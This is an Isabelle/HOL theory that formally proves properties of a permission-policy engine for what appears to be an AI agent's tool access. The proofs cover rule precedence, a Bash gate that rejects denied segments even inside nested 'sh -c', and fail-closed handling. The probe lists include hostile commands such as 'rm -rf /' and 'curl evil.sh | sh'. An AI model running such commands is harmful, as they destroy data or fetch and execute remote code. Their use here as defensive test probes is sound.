(* ===== verification/Policy.thy ===== *)
theory Policy
  imports Permission_Rules Decisions Bash_Splitting Domain_Matcher
begin

section \<open>Compiled policies (\<open>permission/policy.rs\<close>)\<close>

text \<open>
  Evaluating an access against the rules of a policy: one matcher per rule, deny over ask over
  allow, and the gate that evaluates the Bash rules on every segment of a command line. The
  properties say that the order of the rules does not matter, that the gates only escalate, and
  that no segment, wrapped or nested in \<open>bash -c\<close>, escapes a deny rule.
\<close>

datatype match_context = Path | Freeform

record compiled_policy =
  cp_config :: permission_config
  matchers :: "glob_pattern option list"
  synthetic_rules :: "permission_rule list"
  synthetic_matchers :: "glob_pattern option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

definition compile_matcher :: "externals \<Rightarrow> permission_rule \<Rightarrow> glob_pattern option" where
  "compile_matcher E rule =
     (case pr_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else glob_new E p)"

definition compile_matchers :: "externals \<Rightarrow> permission_rule list \<Rightarrow> glob_pattern option list" where
  "compile_matchers E rules = map (compile_matcher E) rules"

definition restricts_files :: "permission_rule \<Rightarrow> bool" where
  "restricts_files rule =
     (pr_action rule \<in> {rule_action.Deny, rule_action.Ask}
      \<and> pr_tool rule \<in> {tool_filter.Read, tool_filter.Edit, Any})"

definition restricts_bash :: "permission_rule \<Rightarrow> bool" where
  "restricts_bash rule =
     (pr_action rule \<in> {rule_action.Deny, rule_action.Ask}
      \<and> pr_tool rule \<in> {tool_filter.Bash, Any})"

definition with_synthetic_rules ::
    "externals \<Rightarrow> permission_config \<Rightarrow> permission_rule list \<Rightarrow> compiled_policy" where
  "with_synthetic_rules E config synth =
     \<lparr>cp_config = config,
      matchers = compile_matchers E (pc_rules config),
      synthetic_rules = synth,
      synthetic_matchers = compile_matchers E synth,
      has_file_restrictions = list_ex restricts_files (pc_rules config),
      has_bash_command_restrictions = list_ex restricts_bash (pc_rules config)\<rparr>"

definition compiled_policy_new :: "externals \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "compiled_policy_new E config = with_synthetic_rules E config []"

subsection \<open>Matching one rule\<close>

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access Any = True"
| "tool_filter_matches access tool_filter.Bash = (case access of access_kind.Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.Edit = (case access of access_kind.Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.Read =
     (case access of access_kind.Read _ \<Rightarrow> True | access_kind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.Grep = (case access of access_kind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access Mcp = (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.WebFetch =
     (case access of access_kind.WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.WebSearch =
     (case access of access_kind.WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition glob_matches :: "str \<Rightarrow> match_context \<Rightarrow> glob_pattern option \<Rightarrow> bool" where
  "glob_matches text ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> p (ctx = Path) text)"

definition domain_matches :: "externals \<Rightarrow> str \<Rightarrow> str \<Rightarrow> bool" where
  "domain_matches E pattern url =
     (case url_parse E url of
        None \<Rightarrow> False
      | Some parsed \<Rightarrow>
          (case host_str parsed of
             None \<Rightarrow> False
           | Some host \<Rightarrow>
               (let domain = normalize_domain E host;
                    normalized_pattern = normalize_domain E pattern
                in domain = normalized_pattern \<or> ends_with domain (''.'' @ normalized_pattern))))"

definition pattern_matches ::
    "externals \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> glob_pattern option \<Rightarrow> bool" where
  "pattern_matches E access rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = ''*'' then True
          else
            (case access of
               access_kind.Bash cmd0 \<Rightarrow>
                 (let cmd = trim_start cmd0
                  in starts_with cmd pattern \<or> glob_matches cmd Freeform matcher)
             | access_kind.Edit path \<Rightarrow> glob_matches path Path matcher
             | access_kind.Read path \<Rightarrow>
                 (case path of Some p \<Rightarrow> glob_matches p Path matcher | None \<Rightarrow> False)
             | access_kind.Grep path _ \<Rightarrow>
                 (case path of Some p \<Rightarrow> glob_matches p Path matcher | None \<Rightarrow> False)
             | MCPTool name _ \<Rightarrow> glob_matches name Freeform matcher
             | access_kind.WebFetch url \<Rightarrow>
                 (case pr_pattern_mode rule of
                    Domain \<Rightarrow> domain_matches E pattern url
                  | Glob \<Rightarrow> glob_matches url Freeform matcher)
             | access_kind.WebSearch query \<Rightarrow>
                 glob_matches query Freeform matcher \<or> starts_with query pattern
             | BrowserAct detail \<Rightarrow>
                 glob_matches detail Freeform matcher \<or> starts_with detail pattern))"

subsection \<open>Evaluating a list of rules\<close>

fun tool_label :: "tool_filter \<Rightarrow> str" where
  "tool_label Any = ''any tool''"
| "tool_label tool_filter.Bash = ''bash''"
| "tool_label tool_filter.Edit = ''edit''"
| "tool_label tool_filter.Read = ''read''"
| "tool_label tool_filter.Grep = ''grep''"
| "tool_label Mcp = ''mcp''"
| "tool_label tool_filter.WebFetch = ''web_fetch''"
| "tool_label tool_filter.WebSearch = ''web_search''"

definition deny_reason :: "permission_rule \<Rightarrow> str" where
  "deny_reason rule =
     (case pr_pattern rule of
        Some pattern \<Rightarrow>
          ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule)
            @ '' matching '' @ [dquote] @ pattern @ [dquote]
      | None \<Rightarrow> ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule))"

text \<open>The loop of \<open>evaluate_rules\<close>, with its two flags.\<close>

fun evaluate_rules_from :: "externals \<Rightarrow> access_kind \<Rightarrow> bool \<Rightarrow> bool
    \<Rightarrow> (permission_rule \<times> glob_pattern option) list \<Rightarrow> decision option" where
  "evaluate_rules_from E access matched_ask matched_allow [] =
     (if matched_ask then Some decision.Ask
      else if matched_allow then Some decision.Allow
      else None)"
| "evaluate_rules_from E access matched_ask matched_allow ((rule, matcher) # rest) =
     (if \<not> tool_filter_matches access (pr_tool rule) then
        evaluate_rules_from E access matched_ask matched_allow rest
      else if \<not> pattern_matches E access rule matcher then
        evaluate_rules_from E access matched_ask matched_allow rest
      else (case pr_action rule of
              rule_action.Deny \<Rightarrow> Some (decision.Reject (deny_reason rule))
            | rule_action.Ask \<Rightarrow> evaluate_rules_from E access True matched_allow rest
            | rule_action.Allow \<Rightarrow> evaluate_rules_from E access matched_ask True rest))"

definition evaluate_rules :: "externals \<Rightarrow> access_kind
    \<Rightarrow> (permission_rule \<times> glob_pattern option) list \<Rightarrow> decision option" where
  "evaluate_rules E access rules = evaluate_rules_from E access False False rules"

definition evaluate :: "externals \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate E cp access =
     combine_decisions
       (evaluate_rules E access (zip (pc_rules (cp_config cp)) (matchers cp)))
       (evaluate_rules E access (zip (synthetic_rules cp) (synthetic_matchers cp)))"

subsection \<open>The Bash command gate\<close>

fun dash_c_operand :: "str list \<Rightarrow> str option" where
  "dash_c_operand [] = None"
| "dash_c_operand (w # ws) =
     (if w = ''--'' \<or> w = ''-'' then nth_opt ws 0
      else if \<not> starts_with w ''-'' then Some w
      else dash_c_operand ws)"

text \<open>\<open>position\<close> over \<open>words.iter().skip(1)\<close> counts from the second word.\<close>

definition shell_dash_c_script :: "str list \<Rightarrow> str option" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> None
      | w # ws \<Rightarrow>
          if last_path_seg w \<notin> {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''} then None
          else (case find (\<lambda>i. let a = ws ! i in starts_with a ''-'' \<and> \<not> starts_with a ''--''
                                    \<and> CHR ''c'' \<in> set a) [0..<length ws] of
                  None \<Rightarrow> None
                | Some flag \<Rightarrow>
                    (case get_from words (flag + 2) of
                       None \<Rightarrow> None
                     | Some rest \<Rightarrow> dash_c_operand rest)))"

definition escalate :: "externals \<Rightarrow> compiled_policy \<Rightarrow> str \<Rightarrow> decision option" where
  "escalate E cp segment =
     (case evaluate E cp (access_kind.Bash segment) of
        Some decision.Allow \<Rightarrow> None
      | None \<Rightarrow> None
      | other \<Rightarrow> other)"

text \<open>The two forms of a segment: its words, and what is left when wrappers are peeled.\<close>

definition segment_forms :: "plain_command \<Rightarrow> str list list" where
  "segment_forms parsed =
     (let raw = pc_words parsed; unwrapped = unwrap_wrappers raw
      in raw # (if length unwrapped \<noteq> length raw then [unwrapped] else []))"

text \<open>\<open>bash_segments left\<close> is \<open>evaluate_bash_command_segments\<close> at \<open>depth = 8 - left\<close>.\<close>

fun bash_segments :: "externals \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> decision option" where
  "bash_segments E cp 0 cmd = Some decision.Ask"
| "bash_segments E cp (Suc left) cmd =
     (case all_commands_from_script E cmd of
        None \<Rightarrow> Some decision.Ask
      | Some segments \<Rightarrow>
          foldl (\<lambda>d parsed.
             foldl (\<lambda>d words.
                let d = combine_decisions d (escalate E cp (join '' '' words))
                in (case shell_dash_c_script words of
                      Some inner \<Rightarrow> combine_decisions d (bash_segments E cp left inner)
                    | None \<Rightarrow> d)) d (segment_forms parsed))
            None segments)"

definition evaluate_bash_command_segments ::
    "externals \<Rightarrow> compiled_policy \<Rightarrow> str \<Rightarrow> nat \<Rightarrow> decision option" where
  "evaluate_bash_command_segments E cp cmd depth = bash_segments E cp (8 - depth) cmd"

definition evaluate_bash_command_policy ::
    "externals \<Rightarrow> compiled_policy \<Rightarrow> str \<Rightarrow> decision option" where
  "evaluate_bash_command_policy E cp cmd =
     (if \<not> has_bash_command_restrictions cp then None
      else evaluate_bash_command_segments E cp cmd 0)"

subsection \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map access_kind.Bash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPTool n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map access_kind.WebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'',
      ''https://api.github.com/repos'', ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "externals \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall E rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches E a rule (compile_matcher E rule))
      in case pr_tool rule of
           tool_filter.Bash \<Rightarrow> opens_all bash_probes
         | Mcp \<Rightarrow> opens_all mcp_probes
         | tool_filter.WebFetch \<Rightarrow> opens_all webfetch_probes
         | Any \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
         | _ \<Rightarrow> False)"

subsection \<open>Lemmas: one list of rules\<close>

definition rule_applies :: "externals \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_applies E access rule =
     (tool_filter_matches access (pr_tool rule)
      \<and> pattern_matches E access rule (compile_matcher E rule))"

definition matching_actions :: "externals \<Rightarrow> access_kind \<Rightarrow> permission_rule list \<Rightarrow> rule_action set" where
  "matching_actions E access rules = pr_action ` {r \<in> set rules. rule_applies E access r}"

lemma matching_actions_simps [simp]:
  "matching_actions E access [] = {}"
  "matching_actions E access (r # rs) =
     (if rule_applies E access r then insert (pr_action r) (matching_actions E access rs)
      else matching_actions E access rs)"
  "matching_actions E access (rs @ ss) = matching_actions E access rs \<union> matching_actions E access ss"
  by (auto simp: matching_actions_def)

text \<open>The precedence a set of actions stands for, up to the text of the rejection.\<close>

definition decides :: "rule_action set \<Rightarrow> decision option \<Rightarrow> bool" where
  "decides A d =
     (if rule_action.Deny \<in> A then (\<exists>m. d = Some (decision.Reject m))
      else if rule_action.Ask \<in> A then d = Some decision.Ask
      else if rule_action.Allow \<in> A then d = Some decision.Allow
      else d = None)"

lemma evaluate_rules_from_decides:
  "decides (matching_actions E access rules \<union> (if ask then {rule_action.Ask} else {})
              \<union> (if allow then {rule_action.Allow} else {}))
     (evaluate_rules_from E access ask allow (zip rules (compile_matchers E rules)))"
proof (induction rules arbitrary: ask allow)
  case Nil
  then show ?case by (simp add: decides_def compile_matchers_def)
next
  case (Cons r rs)
  show ?case
  proof (cases "rule_applies E access r")
    case False
    then show ?thesis
      using Cons[of ask allow] by (auto simp: compile_matchers_def rule_applies_def)
  next
    case True
    then have m: "tool_filter_matches access (pr_tool r)"
      "pattern_matches E access r (compile_matcher E r)" by (simp_all add: rule_applies_def)
    show ?thesis
    proof (cases "pr_action r")
      case Deny
      with True m show ?thesis by (simp add: decides_def compile_matchers_def)
    next
      case Ask
      with True m show ?thesis
        using Cons[of True allow]
        by (cases allow; cases ask) (simp_all add: compile_matchers_def insert_commute)
    next
      case Allow
      with True m show ?thesis
        using Cons[of ask True]
        by (cases allow; cases ask) (simp_all add: compile_matchers_def insert_commute)
    qed
  qed
qed

lemma evaluate_rules_decides:
  "decides (matching_actions E access rules) (evaluate_rules E access (zip rules (compile_matchers E rules)))"
  using evaluate_rules_from_decides[of E access rules False False] by (simp add: evaluate_rules_def)

lemma decides_combine:
  "decides A x \<Longrightarrow> decides B y \<Longrightarrow> decides (A \<union> B) (combine_decisions x y)"
  by (auto simp: decides_def split: if_splits)

text \<open>The decision of a policy depends only on the set of actions of the rules that match, its own
  and the synthetic ones together: any matching deny rejects, else any matching ask asks, else any matching
  allow allows, else there is no decision. So the order of the rules does not matter.\<close>

theorem evaluate_precedence:
  "decides (matching_actions E access (pc_rules config @ synth))
     (evaluate E (with_synthetic_rules E config synth) access)"
  unfolding evaluate_def matching_actions_simps
  by (rule decides_combine) (simp_all add: with_synthetic_rules_def evaluate_rules_decides)

lemma decides_rank: "decides A x \<Longrightarrow> decides B y \<Longrightarrow> A \<subseteq> B \<Longrightarrow> decisions.opt_rank x \<le> decisions.opt_rank y"
  by (auto simp: decides_def decisions.opt_rank_def split: if_splits option.splits)


subsection \<open>Lemmas: the Bash gate\<close>

text \<open>The gate's nested loops as one fold over all the forms of all the segments.\<close>

definition words_decision :: "externals \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> str list \<Rightarrow> decision option" where
  "words_decision E cp left words =
     combine_decisions (escalate E cp (join '' '' words))
       (case shell_dash_c_script words of Some inner \<Rightarrow> bash_segments E cp left inner | None \<Rightarrow> None)"

lemma foldl_concat_map: "foldl (\<lambda>d x. foldl g d (f x)) d0 xs = foldl g d0 (concat (map f xs))"
  by (induction xs arbitrary: d0) simp_all

lemma bash_segments_fold:
  "bash_segments E cp (Suc left) cmd =
     (case all_commands_from_script E cmd of
        None \<Rightarrow> Some decision.Ask
      | Some segments \<Rightarrow>
          foldl (\<lambda>d w. combine_decisions d (words_decision E cp left w)) None
            (concat (map segment_forms segments)))"
proof -
  have step: "(let d = combine_decisions d (escalate E cp (join '' '' words))
         in case shell_dash_c_script words of
              Some inner \<Rightarrow> combine_decisions d (bash_segments E cp left inner) | None \<Rightarrow> d)
      = combine_decisions d (words_decision E cp left words)" for d words
    by (cases "shell_dash_c_script words")
      (simp_all add: words_decision_def Let_def decisions.assoc decisions.unit_right)
  show ?thesis
    unfolding bash_segments.simps foldl_concat_map[symmetric] by (simp only: step)
qed

lemma evaluate_rules_from_cases:
  "escalation (evaluate_rules_from E access ask allow rules)
   \<or> evaluate_rules_from E access ask allow rules = Some decision.Allow"
proof (induction rules arbitrary: ask allow)
  case Nil
  then show ?case by (simp add: gate_simps)
next
  case (Cons rm rules)
  obtain rule matcher where rm: "rm = (rule, matcher)" by (cases rm)
  show ?case
  proof (cases "tool_filter_matches access (pr_tool rule) \<and> pattern_matches E access rule matcher")
    case False
    then have "evaluate_rules_from E access ask allow (rm # rules)
        = evaluate_rules_from E access ask allow rules" using rm by auto
    with Cons show ?thesis by simp
  next
    case True
    then show ?thesis
      using Cons rm by (cases "pr_action rule") (simp_all add: escalation_simps)
  qed
qed

lemma evaluate_cases: "escalation (evaluate E cp access) \<or> evaluate E cp access = Some decision.Allow"
proof -
  have either: "escalation (combine_decisions x y) \<or> combine_decisions x y = Some decision.Allow"
    if "escalation x \<or> x = Some decision.Allow" "escalation y \<or> y = Some decision.Allow" for x y
    using that by (auto simp: escalation_def)
  show ?thesis
    unfolding evaluate_def evaluate_rules_def by (intro either evaluate_rules_from_cases)
qed

lemma escalate_escalation [gate_simps]: "escalation (escalate E cp segment)"
  using evaluate_cases[of E cp "access_kind.Bash segment"]
  by (auto simp: escalate_def escalation_def)

lemma words_decision_escalation:
  "(\<And>inner. escalation (bash_segments E cp left inner)) \<Longrightarrow> escalation (words_decision E cp left words)"
  by (auto simp: words_decision_def gate_simps intro!: escalation_combine split: option.splits)

lemma bash_segments_escalation: "escalation (bash_segments E cp left cmd)"
proof (induction left arbitrary: cmd)
  case 0
  then show ?case by (simp add: gate_simps)
next
  case (Suc left)
  have "escalation (foldl (\<lambda>d w. combine_decisions d (words_decision E cp left w)) None ws)" for ws
    by (rule escalation_fold) (simp_all add: gate_simps words_decision_escalation Suc)
  then show ?case
    unfolding bash_segments_fold by (simp add: gate_simps split: option.split)
qed

text \<open>
  The scripts a command line runs: itself, and the operands of \<open>sh -c\<close> of any form of any of its
  segments, each at its number of levels left.
\<close>

inductive runs_script :: "externals \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> bool" for E where
  self: "runs_script E k cmd k cmd"
| nested: "runs_script E k inner k' cmd' \<Longrightarrow> all_commands_from_script E cmd = Some segments \<Longrightarrow>
    parsed \<in> set segments \<Longrightarrow> words \<in> set (segment_forms parsed) \<Longrightarrow>
    shell_dash_c_script words = Some inner \<Longrightarrow> runs_script E (Suc k) cmd k' cmd'"

lemma words_decision_below:
  assumes "all_commands_from_script E cmd = Some segments" "parsed \<in> set segments"
    "words \<in> set (segment_forms parsed)"
  shows "decisions.opt_rank (words_decision E cp left words)
    \<le> decisions.opt_rank (bash_segments E cp (Suc left) cmd)"
  unfolding bash_segments_fold assms(1) option.case
  by (rule decisions.fold_outranks) (use assms(2,3) in auto)

lemma runs_script_below:
  "runs_script E k cmd k' cmd' \<Longrightarrow>
   decisions.opt_rank (bash_segments E cp k' cmd') \<le> decisions.opt_rank (bash_segments E cp k cmd)"
proof (induction rule: runs_script.induct)
  case (self k cmd)
  then show ?case by simp
next
  case (nested k inner k' cmd' cmd segments parsed words)
  note nested.IH
  also have "decisions.opt_rank (bash_segments E cp k inner)
      \<le> decisions.opt_rank (words_decision E cp k words)"
    unfolding words_decision_def nested.hyps(5) option.case by (rule decisions.opt_rank_combine_ge(2))
  also note words_decision_below[OF nested.hyps(2-4)]
  finally show ?case .
qed

lemma escalation_rank:
  "escalation d \<Longrightarrow> decisions.opt_rank (Some decision.Ask) \<le> decisions.opt_rank d \<Longrightarrow>
     d = Some decision.Ask \<or> (\<exists>m. d = Some (decision.Reject m))"
  "escalation d \<Longrightarrow> decisions.opt_rank (Some (decision.Reject r)) \<le> decisions.opt_rank d \<Longrightarrow>
     \<exists>m. d = Some (decision.Reject m)"
  by (auto simp: escalation_def decisions.opt_rank_def)

text \<open>The Bash command gate only escalates: it answers nothing, ask or reject, never allow.\<close>

theorem bash_gate_never_allows:
  "escalation (evaluate_bash_command_policy E cp cmd)"
  by (simp add: evaluate_bash_command_policy_def evaluate_bash_command_segments_def
      bash_segments_escalation gate_simps)

text \<open>C13: No segment escapes a deny rule. In a policy with Bash restrictions, if a segment of the command
  line, or of a script nested in it through \<open>sh -c\<close> less than eight levels deep, is rejected by the policy in
  its written form or with its wrappers peeled, then the gate rejects the whole command line.\<close>

theorem bash_gate_denies_every_segment:
  assumes "has_bash_command_restrictions cp"
    and "runs_script E 8 cmd (Suc k) script" "all_commands_from_script E script = Some segments"
    and "parsed \<in> set segments" "words \<in> set (segment_forms parsed)"
    and "evaluate E cp (access_kind.Bash (join '' '' words)) = Some (decision.Reject m)"
  shows "\<exists>m'. evaluate_bash_command_policy E cp cmd = Some (decision.Reject m')"
proof -
  have "escalate E cp (join '' '' words) = Some (decision.Reject m)"
    by (simp add: escalate_def assms(6))
  then have "decisions.opt_rank (Some (decision.Reject m)) \<le> decisions.opt_rank (words_decision E cp k words)"
    unfolding words_decision_def by (metis decisions.opt_rank_combine_ge(1))
  also note words_decision_below[OF assms(3-5)]
  also note runs_script_below[OF assms(2)]
  finally show ?thesis
    using escalation_rank(2)[OF bash_segments_escalation] assms(1)
    by (simp add: evaluate_bash_command_policy_def evaluate_bash_command_segments_def)
qed

definition deny_ls :: permission_config where
  "deny_ls = permission_config_new
     [\<lparr>pr_action = rule_action.Deny, pr_tool = tool_filter.Bash, pr_pattern = Some ''ls'',
       pr_pattern_mode = Glob\<rparr>]"

definition deny_ls_policy :: compiled_policy where
  "deny_ls_policy = compiled_policy_new ls_externals deny_ls"

lemma trim_start_ls: "trim_start ''ls a'' = ''ls a''"
  by (simp add: trim_start_id_iff ws_seqs_def)

lemma deny_ls_rejects:
  "evaluate ls_externals deny_ls_policy (access_kind.Bash ''ls a'')
     = Some (decision.Reject (''Denied by permission policy: deny rule on bash matching ''
         @ [dquote] @ ''ls'' @ [dquote]))"
  by (simp add: evaluate_def evaluate_rules_def deny_ls_policy_def deny_ls_def compiled_policy_new_def
      with_synthetic_rules_def permission_config_new_def compile_matchers_def pattern_matches_def
      trim_start_ls deny_reason_def)

lemma deny_ls_restricts: "has_bash_command_restrictions deny_ls_policy"
  by (simp add: deny_ls_policy_def deny_ls_def compiled_policy_new_def with_synthetic_rules_def
      permission_config_new_def restricts_bash_def)

theorem bash_gate_denies_every_segment_witness:
  "\<exists>m. evaluate_bash_command_policy ls_externals deny_ls_policy ''ls a'' = Some (decision.Reject m)"
  by (rule bash_gate_denies_every_segment[where k = 7 and script = "''ls a''" and words = "[''ls'', ''a'']"
        and parsed = "\<lparr>pc_words = [''ls'', ''a''], span_start = 0, span_end = 4\<rparr>",
        OF deny_ls_restricts _ ls_commands])
    (simp_all add: deny_ls_rejects runs_script.self segment_forms_def Let_def)

text \<open>The gate fails closed: when the command line, or a script nested in it, cannot be decomposed into
  plain commands, or the nesting reaches eight levels, the answer is ask or reject.\<close>

theorem bash_gate_fails_closed:
  assumes "has_bash_command_restrictions cp"
    and "runs_script E 8 cmd k script" "k = 0 \<or> all_commands_from_script E script = None"
  shows "evaluate_bash_command_policy E cp cmd = Some decision.Ask
    \<or> (\<exists>m. evaluate_bash_command_policy E cp cmd = Some (decision.Reject m))"
proof -
  have "bash_segments E cp k script = Some decision.Ask"
    using assms(3) by (cases k) auto
  then have "decisions.opt_rank (Some decision.Ask) \<le> decisions.opt_rank (bash_segments E cp 8 cmd)"
    using runs_script_below[OF assms(2), of cp] by simp
  from escalation_rank(1)[OF bash_segments_escalation this] assms(1) show ?thesis
    by (simp add: evaluate_bash_command_policy_def evaluate_bash_command_segments_def)
qed

theorem bash_gate_fails_closed_witness:
  "evaluate_bash_command_policy ls_externals deny_ls_policy ''(''
     \<in> {Some decision.Ask} \<union> range (\<lambda>m. Some (decision.Reject m))"
proof -
  have "all_commands_from_script ls_externals ''('' = None"
    by (simp add: all_commands_from_script_def ls_externals_def example_externals_def)
  then show ?thesis
    using bash_gate_fails_closed[OF deny_ls_restricts runs_script.self, of ls_externals "''(''"] by auto
qed

text \<open>The \<open>www.\<close> prefix of a domain rule is stripped before the text is lower-cased, so a rule
  that writes it in capitals never matches the host it names: with ASCII lower-casing, the rule pattern
  \<open>WWW.evil.com\<close> does not match a URL of \<open>www.evil.com\<close>, which \<open>www.evil.com\<close> and
  \<open>evil.com\<close> both match.\<close>

theorem domain_rule_capital_www_never_matches:
  "let E' = E\<lparr>to_lowercase := to_ascii_lowercase,
             url_parse := (\<lambda>_. Some \<lparr>host_str = Some ''www.evil.com'', url_path = ''/''\<rparr>)\<rparr>
   in \<not> domain_matches E' ''WWW.evil.com'' u
      \<and> domain_matches E' ''www.evil.com'' u \<and> domain_matches E' ''evil.com'' u"
proof -
  have t: "trim ''WWW.evil.com'' = ''WWW.evil.com''" "trim ''www.evil.com'' = ''www.evil.com''"
    "trim ''evil.com'' = ''evil.com''"
    by (simp_all add: trim_id_iff ws_seqs_def ends_with_def)
  show ?thesis
    by (simp add: Let_def domain_matches_def normalize_domain_def t trim_end_matches_def
        strip_prefix_def to_ascii_lowercase_def ascii_lower_def ends_with_def)
qed

end
